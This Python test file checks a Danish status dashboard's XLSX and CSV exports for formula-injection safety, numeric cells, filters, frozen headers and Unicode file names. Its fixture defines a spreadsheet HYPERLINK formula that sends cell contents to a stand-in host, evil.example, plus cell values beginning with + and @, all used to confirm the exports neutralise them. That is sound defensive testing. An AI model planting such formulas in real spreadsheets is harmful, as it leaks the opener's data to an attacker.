"""The exports open right (issue 20, point 3): text from the data is text (never a formula,
in the workbook or the CSV), numbers are numbers, every sheet has a filter and a frozen
header, the file names keep the Danish letters, and both files open in LibreOffice
(headless `soffice --convert-to`, skipped when it is not installed) with the numbers
summable and no formula from the data."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ledelse.models import Unit
from values.models import Item

EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"Dialog")'


@pytest.fixture
def evil_data(org, status_data):
    p11 = status_data.principles[0]
    Item.objects.filter(pk=p11.pk).update(title=EVIL)
    Unit.objects.filter(pk=org.units["B"].pk).update(name="+45 Hospital B")
    Unit.objects.filter(pk=org.units["HR"].pk).update(name="@HR-afdeling")
    status_data.rollout.title = "Lokal oversættelse på Århus' afdelinger"
    status_data.rollout.save(update_fields=["title"])
    return status_data


def _xlsx(client):
    response = client.get("/status/status.xlsx")
    assert response.status_code == 200
    return response


def test_no_text_from_the_data_becomes_a_formula_in_the_workbook(client, org, evil_data):
    client.force_login(org.users["koncern"])
    content = _xlsx(client).content
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert all("<f>" not in s for s in sheets)
    wb = load_workbook(io.BytesIO(content))
    coverage = list(wb["Dækning"].iter_rows(values_only=True))
    assert EVIL in coverage[0]
    status = [c for row in wb["Status"].iter_rows() for c in row]
    assert any(c.value == "+45 Hospital B" and c.data_type == "s" for c in status)


def test_numbers_are_numbers_and_every_sheet_has_a_filter_and_a_frozen_header(client, org, evil_data):
    client.force_login(org.users["koncern"])
    wb = load_workbook(io.BytesIO(_xlsx(client).content))
    for ws in wb.worksheets:
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert ws.freeze_panes == "B2", ws.title
    units = [r[4] for r in wb["Status"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(n, int) for n in units)


def test_the_csv_neutralises_a_leading_formula_character(client, org, evil_data):
    client.force_login(org.users["koncern"])
    text = client.get("/status/status.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert "'+45 Hospital B" in cells and "'@HR-afdeling" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_the_file_names_keep_the_danish_letters_with_an_ascii_fallback(client, org, evil_data):
    client.force_login(org.users["koncern"])
    for url, ext in (("/status/status.csv", "csv"), ("/status/status.xlsx", "xlsx")):
        disposition = client.get(url)["Content-Disposition"]
        assert disposition.startswith("attachment; ")
        assert f'filename="status-lokal-oversaettelse-paa-aarhus-afdelinger-region-test.{ext}"' in disposition
        assert (
            f"filename*=UTF-8''status-lokal-overs%C3%A6ttelse-p%C3%A5-%C3%A5rhus-afdelinger-region-test.{ext}"
            in disposition
        )


def _soffice(tmp_path: Path, *args: str) -> None:
    binary = shutil.which("soffice")
    if binary is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [binary, f"-env:UserInstallation={profile}", "--headless", *args, "--outdir", str(tmp_path / "out")],
        check=True,
        capture_output=True,
        timeout=120,
    )


def test_both_exports_open_in_libreoffice_with_numbers_summable_and_no_formula(client, org, evil_data, tmp_path):
    client.force_login(org.users["koncern"])
    (tmp_path / "status.xlsx").write_bytes(_xlsx(client).content)
    (tmp_path / "status-csv.csv").write_bytes(client.get("/status/status.csv").content)
    _soffice(tmp_path, "--convert-to", "xlsx", str(tmp_path / "status.xlsx"))
    _soffice(tmp_path, "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", str(tmp_path / "status-csv.csv"))
    for name in ("status.xlsx", "status-csv.xlsx"):
        wb = load_workbook(tmp_path / "out" / name)
        assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row), name
        rows = list(wb.worksheets[0].iter_rows(min_row=2, values_only=True))
        region = [r for r in rows if r[0] == "Region Test"]
        # Numbers are numbers: the branches' units add up to the total line.
        assert all(isinstance(r[4], int | float) for r in region), name
        assert sum(r[4] for r in region[1:]) == region[0][4], name
    workbook = load_workbook(tmp_path / "out" / "status.xlsx")
    assert EVIL in next(workbook["Dækning"].iter_rows(values_only=True))
    from_csv = [
        c for row in load_workbook(tmp_path / "out" / "status-csv.xlsx").active.iter_rows(values_only=True) for c in row
    ]
    assert "'+45 Hospital B" in from_csv or "+45 Hospital B" in from_csv
